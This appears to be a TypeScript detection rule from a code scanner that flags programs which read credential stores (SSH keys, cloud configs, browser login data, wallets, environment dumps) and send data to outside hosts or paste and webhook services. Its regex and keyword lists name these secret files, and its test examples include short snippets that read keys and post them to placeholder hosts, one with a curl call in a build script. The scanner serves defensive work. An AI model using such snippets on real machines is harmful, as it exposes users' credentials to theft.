import type { FileFormat } from '../../artefacts/file-format.ts';
import { sendsElsewhere } from '../../behaviour/sends-elsewhere.ts';
import { defineRule } from '../define-rule.ts';
import { nearKeywords } from '../near-keywords.ts';

/** Programs that are read as text only. */
const UNREAD: ReadonlySet<FileFormat> = new Set<FileFormat>([
  'go',
  'ruby',
  'rust',
  'php',
  'code',
  'batch',
  'powershell',
]);

const store = new RegExp(
  [
    // the path in one piece or in its parts: ".kube", "config"
    String.raw`["'\x60/\\]\.(?:kube["', )/\\]{1,6}config|ssh["', )/\\]{1,6}(?:id_\w{2,10}|config|known_hosts)?|aws["', )/\\]{1,6}(?:credentials|config)|docker["', )/\\]{1,6}config|gnupg|netrc|npmrc|pypirc|git-credentials|azure["', )/\\]|config["', )/\\]{1,6}(?:gh|gcloud|solana)|(?:cargo|gem)["', )/\\]{1,6}credentials|pgpass|s3cfg|boto|my\.cnf|vault-token|composer["', )/\\]{1,6}auth|claude["', )/\\]{1,6}\.?credentials|codex["', )/\\]{1,6}auth|bitcoin|ethereum|electrum)`,
    String.raw`\b(?:credentials\.toml|application_default_credentials|Login Data|cookies\.sqlite|logins\.json|key4\.db|wallet\.dat|login\.keychain|id_rsa|id_ed25519|Local State|/etc/shadow)\b`,
    String.raw`\bSystem\.getenv\(\)|\bos\.Environ\(\)|\bENV\.(?:to_h|to_a|map|each|inspect|to_json)\b|\benv::vars\(\)|\bGetEnvironmentVariables\(\)|%ENV\b|\bgetenv\(\)|Get-ChildItem\s{1,4}[Ee]nv:|\bgci\s{1,4}env:`,
  ].join('|'),
  'g',
);

/** Services that anybody may leave a text at without a word of whose it is. */
const DROP =
  /api\.github\.com\/gists|api\.telegram\.org\/bot|discord(?:app)?\.com\/api\/webhooks|hooks\.slack\.com\/|pastebin\.com\/api|paste\.rs|transfer\.sh|0x0\.st|dpaste|webhook\.site/i;

export const credentialSender = defineRule({
  reads: 'text',
  id: 'exfiltration/credential-sender',
  title: 'Program that opens a credential store also sends to a host of its own',
  severity: 'high',
  confidence: 0.75,
  lane: 'enforce',
  category: 'CREDENTIAL_ACCESS',
  ideas: [62, 63, 72],
  kinds: 'all',
  cwe: [522, 201],
  owasp: ['LLM02:2025', 'ASI03', 'AST01'],
  atlas: ['T0055', 'T0025'],
  why: 'Keys of the user are one call away from a host that has nothing to do with them.',
  fix: 'Let the tool that owns the keys use them; remove the request or the read.',
  fixable: 'no',
  proof: { source: 'a credential store is opened', sink: 'and the same program sends elsewhere' },
  targets: ['script'],
  keywords: [
    '.kube',
    '.ssh',
    '.aws',
    '.docker',
    '.gnupg',
    'netrc',
    'npmrc',
    'pypirc',
    'pgpass',
    's3cfg',
    'my.cnf',
    'credentials',
    '.azure',
    '.config',
    '.claude',
    '.codex',
    'login data',
    'cookies.sqlite',
    'logins.json',
    'key4.db',
    'wallet.dat',
    'keychain',
    'id_rsa',
    'id_ed25519',
    'local state',
    '/etc/shadow',
    '.bitcoin',
    '.ethereum',
    '.electrum',
    'getenv()',
    'environ()',
    'env.to',
    'env.map',
    'env.each',
    'env.inspect',
    'env::vars',
    'environmentvariables()',
    '%env',
    'env:',
  ],
  check: nearKeywords({
    pattern: store,
    reach: 200,
    accept: (match, { artefact, file, view }) =>
      UNREAD.has(file.format) &&
      !/^\s{0,12}(?:\/\/|#|\*)/.test(
        view.text.slice(view.text.lastIndexOf('\n', match.index) + 1),
      ) &&
      (sendsElsewhere(file.text, artefact) !== null ||
        (DROP.test(file.text) && !match[0].includes('known_hosts'))),
  }),
  examples: {
    bad: [
      {
        path: 'main.go',
        text: 'package main\n\nfunc read() {\n\traw, _ := os.ReadFile(filepath.Join(home(), ".kube", "config"))\n\thttp.Post("https://seats.test/in", "text/plain", bytes.NewReader(raw))\n}\n',
        lines: [4],
      },
      {
        path: 'build.rs',
        text: 'fn main() {\n    let t = std::fs::read_to_string(format!("{}/.cargo/credentials.toml", home)).unwrap();\n    Command::new("curl").args(["--data-binary", &t, "https://stats.ferry.test/v1"]).status();\n}\n',
        lines: [2],
      },
      {
        path: 'sync.rb',
        text: "require 'net/http'\nbody = ENV.to_h.to_json\nNet::HTTP.post(URI('https://log.test/e'), body)\n",
        lines: [2],
      },
    ],
    good: [
      {
        path: 'main.go',
        text: 'package main\n\nfunc read() {\n\traw, _ := os.ReadFile(filepath.Join(home(), ".kube", "config"))\n\tfmt.Println(len(raw))\n}\n',
        because: 'nothing is sent',
      },
      {
        path: 'main.go',
        text: 'package main\n\nfunc post(raw []byte) {\n\thttp.Post("https://api.github.com/gists", "text/plain", bytes.NewReader(raw))\n}\n\nvar known = filepath.Join(home(), ".ssh", "known_hosts")\n',
        because: 'the host is a well-known service',
      },
    ],
  },
});
